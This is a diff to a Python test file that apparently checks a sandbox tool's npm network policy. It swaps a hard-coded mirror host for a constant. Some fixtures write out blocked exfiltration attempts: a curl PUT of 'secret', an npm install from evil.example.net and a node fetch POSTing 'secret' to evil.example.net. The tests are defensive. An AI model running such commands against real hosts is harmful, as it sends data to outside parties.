@@ -4,6 +4,7 @@ import re
 
 from boxed import *
 from world.sites import PACKAGE, VERSION
+from world.zone import NPM
 
 WORK = os.path.join(place, "work")
 os.mkdir(WORK)
@@ -55,9 +56,10 @@ def npm_install():
     r = shipped("npm-install", [
         {"name": "install", "argv": ["sh", "-c", f"mkdir /tmp/p && cd /tmp/p && echo '{{}}' > package.json && npm install {PACKAGE} && node -e 'console.log(require(\"{PACKAGE}\"))'"],
          "timeout": 60},
-        {"name": "publish", "argv": ["sh", "-c", "mkdir /tmp/q && cd /tmp/q && echo '{\"name\": \"mine\", \"version\": \"1.0.0\"}' > package.json && npm publish --registry https://mirror.npmjs.org/ --//mirror.npmjs.org/:_authToken=x"],
+        {"name": "publish", "argv": ["sh", "-c", "mkdir /tmp/q && cd /tmp/q && echo '{\"name\": \"mine\", \"version\": \"1.0.0\"}' > package.json && "
+                                                f"npm publish --registry https://{NPM}/ --//{NPM}/:_authToken=x"],
          "timeout": 60},
-        {"name": "put", "argv": ["curl", "-sS", "-X", "PUT", "-d", "secret", f"https://mirror.npmjs.org/{PACKAGE}"]},
+        {"name": "put", "argv": ["curl", "-sS", "-X", "PUT", "-d", "secret", f"https://{NPM}/{PACKAGE}"]},
         {"name": "another registry", "argv": ["npm", "install", "--fetch-retries=0", "--registry", "https://evil.example.net/", PACKAGE], "timeout": 60},
         {"name": "send away", "argv": ["node", "-e", "fetch('https://evil.example.net/', {method: 'POST', body: 'secret'}).then(() => process.exit(0), () => process.exit(3))"]},
     ])
@@ -150,7 +152,7 @@ def other_ecosystems():
 @case
 def they_say_what_they_are():
     """Each shipped policy with a network: what `pale explain` promises names its hosts, and it changes nothing by itself."""
-    for name, host in (("pip-install", "pypi.org"), ("npm-install", "mirror.npmjs.org"), ("github-read", "api.github.com")):
+    for name, host in (("pip-install", "pypi.org"), ("npm-install", "*.npmjs.org"), ("github-read", "api.github.com")):
         p = world.run([pale, "explain", "-p", name], env=env, cwd=WORK)
         check(f"pale explain -p {name} names {host}, and that TLS is opened", host in p.stdout.decode() and
               re.search("interc|open", p.stdout.decode()), (p.stdout + p.stderr).decode()[-2000:])
